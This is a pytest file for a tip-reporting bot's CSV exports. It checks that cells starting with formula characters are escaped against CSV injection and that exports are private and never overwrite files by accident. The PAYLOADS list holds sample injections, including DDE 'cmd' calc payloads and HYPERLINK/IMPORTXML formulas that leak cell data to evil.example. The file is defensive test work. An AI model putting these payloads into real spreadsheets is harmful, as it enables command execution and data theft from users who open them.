"""`desabot tips export` and `stats export` write what villagers typed: never as a formula
(OWASP CSV Injection), never over an existing file without --force, never readable by others."""

from __future__ import annotations

import csv
import stat
from pathlib import Path

import pytest

from bot.core.spreadsheet import FORMULA_START
from bot.core.storage.models import Village
from bot.core.storage.session import Database
from bot.domain.people import roles
from bot.domain.tips.submission import TipInput, submit
from bot.main import main

# The classic payloads (OWASP CSV Injection page and the DDE write-ups).
PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?leak="&A1&B1,"Klik di sini")',
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A2),"//a")',
    "\t=1+1",
    "\r=1+1",
    '"=1+1"',
    "=1+1;=2+2",
]


@pytest.fixture
def env(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'admin.sqlite3'}")
    monkeypatch.setenv("DESABOT_DATA_DIR", str(tmp_path))
    return tmp_path


def _db(env: Path) -> Database:
    assert main(["db", "upgrade"]) == 0
    return Database(f"sqlite:///{env / 'admin.sqlite3'}")


def _cells(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_tip_and_stats_exports_never_start_a_cell_with_a_formula(env: Path) -> None:
    db = _db(env)
    roles.add_office(db, "tpi", "Kanim", default=True)
    with db.session() as session:
        for i, payload in enumerate(PAYLOADS):
            session.add(Village(code=f"99.{i:02d}", name=payload[:120]))
    for payload in PAYLOADS:
        submit(db, 1, "=Pelapor", TipInput(story=payload, offer_text=payload, recruiter=payload,
                                           destination=payload[:120], consent=True), limit=100)
    db.dispose()
    tips, stats = env / "tips.csv", env / "stats.csv"
    assert main(["tips", "export", "--office", "tpi", "--out", str(tips)]) == 0
    assert main(["stats", "export", "--out", str(stats)]) == 0
    for path in (tips, stats):
        rows = _cells(path)
        cells = [cell for row in rows[1:] for cell in row]
        dangerous = [c for c in cells if c.startswith(FORMULA_START)]
        assert not dangerous, (path.name, dangerous)
        for payload in PAYLOADS:  # nothing lost: the text is there, behind an apostrophe
            assert _expected(payload[:120]) in cells, (path.name, payload)
    header = _cells(tips)[0]
    story = [row[header.index("story")] for row in _cells(tips)[1:]]
    assert story == [_expected(p) for p in PAYLOADS]
    assert {row[header.index("reporter")] for row in _cells(tips)[1:]} == {"'=Pelapor"}


def _expected(payload: str) -> str:
    """OWASP: a cell starting with = + - @ tab or CR gets a leading apostrophe."""
    return "'" + payload if payload[0] in "=+-@\t\r" else payload


def test_exports_refuse_to_overwrite_and_are_private(env: Path,
                                                     capsys: pytest.CaptureFixture) -> None:
    db = _db(env)
    roles.add_office(db, "tpi", "Kanim", default=True)
    db.dispose()
    out = env / "tips.csv"
    out.write_text("keep me")
    for command in (["tips", "export", "--office", "tpi"], ["stats", "export"]):
        assert main([*command, "--out", str(out)]) == 1
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "exists" in err and "--force" in err
        assert out.read_text() == "keep me"
    assert main(["tips", "export", "--office", "tpi", "--out", str(out), "--force"]) == 0
    assert out.read_text().startswith('"code"')
    fresh = env / "stats.csv"
    assert main(["stats", "export", "--out", str(fresh)]) == 0
    for path in (out, fresh):
        assert stat.S_IMODE(path.stat().st_mode) == 0o600, path


def test_an_export_never_truncates_its_target_before_it_succeeds(
        env: Path, capsys: pytest.CaptureFixture) -> None:
    """Pointed at the live SQLite file, `tips export --out` once destroyed the database."""
    live = env / "admin.sqlite3"
    _db(env).dispose()
    before = live.read_bytes()
    assert main(["tips", "export", "--office", "tpi", "--out", str(live), "--force"]) == 1
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and "database" in err
    assert live.read_bytes() == before
    target = env / "old.csv"
    target.write_text("yesterday's export")
    assert main(["tips", "export", "--office", "nope", "--out", str(target), "--force"]) == 1
    assert "no office with code 'nope'" in capsys.readouterr().err
    assert target.read_text() == "yesterday's export"
    assert sorted(p.name for p in env.iterdir() if p.name.startswith(".")) == []


def test_a_missing_out_folder_is_one_line(env: Path, capsys: pytest.CaptureFixture) -> None:
    _db(env).dispose()
    for command in (["stats", "export"], ["tips", "export", "--office", "tpi"], ["backup"]):
        target = str(env / "no" / "such" / "file.csv")
        argv = [*command, target] if command == ["backup"] else [*command, "--out", target]
        assert main(argv) == 1, argv
        err = capsys.readouterr().err
        assert err.count("\n") == 1 and "does not exist" in err, (argv, err)
